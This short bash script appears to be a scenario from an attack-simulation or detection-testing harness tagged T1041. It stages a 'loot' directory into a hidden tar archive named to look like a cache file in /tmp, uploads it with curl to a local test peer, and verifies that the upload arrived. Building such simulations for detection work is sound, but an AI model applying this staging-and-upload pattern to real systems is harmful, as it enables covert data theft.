#!/usr/bin/env bash
# Staging + exfiltration: tar czf into a hidden /tmp directory, then `curl --data-binary @file`
# to the namespace peer.
. "$(dirname "$0")/../lib.sh"
scn_begin exfil-tar-curl T1041
scn_require tar curl
scn_http_peer
scn_loot
scn_tmpdir stage /tmp .scn-stage-
tar -C "$SCN_LOOT" -czf "$stage/.cache.tgz" .
scn_run_key curl -fsS --max-time 10 --data-binary "@$stage/.cache.tgz" "$SCN_URL/up" -o /dev/null
[ -s "$SCN_WORK/srv/upload-1" ] || scn_fail "nothing reached the peer"
cmp -s "$SCN_WORK/srv/upload-1" "$stage/.cache.tgz" || scn_fail "the upload differs from the archive"
